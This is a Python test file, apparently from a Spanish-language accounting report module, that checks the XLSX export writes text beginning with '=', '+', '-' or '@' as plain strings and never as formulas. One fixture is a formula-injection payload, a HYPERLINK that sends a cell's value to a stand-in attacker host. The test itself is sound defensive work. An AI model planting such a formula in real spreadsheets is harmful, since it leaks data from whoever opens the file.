"""A report's XLSX never turns a text into a formula: a customer named "=HYPERLINK(...)" (the
customer form takes the text; a customer file refuses it, issue 13) is written as text, so the
spreadsheet shows it and never runs it."""

import io
from types import SimpleNamespace

from openpyxl import load_workbook

from reports.builders import Column, Report
from reports.render import xlsx

FORMULA = '=HYPERLINK("http://malo.example/?d="&A1,"Ver")'


def test_a_text_starting_with_equals_is_written_as_text_not_as_a_formula():
    report = Report(
        slug="antiguedad",
        title="Antigüedad de saldos de clientes",
        company=SimpleNamespace(legal_name="=EMPRESA SA DE CV"),
        subtitle="=1+1",
        columns=[Column("Cliente"), Column("=Nombre")],
        rows=[[1, FORMULA], [2, "+52 81 1234"], [3, "-2+3"], [4, "@SUM(A1)"], [5, "CLIENTE NORMAL"]],
        note="=nota",
    )
    sheet = load_workbook(io.BytesIO(xlsx(report))).active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert [c.value for c in texts if c.value.startswith("=")] == [
        "=EMPRESA SA DE CV — Antigüedad de saldos de clientes", "=1+1", "=Nombre", FORMULA, "=nota",
    ]  # fmt: skip
    assert {c.data_type for c in texts} == {"s"}  # none is a formula ("f")
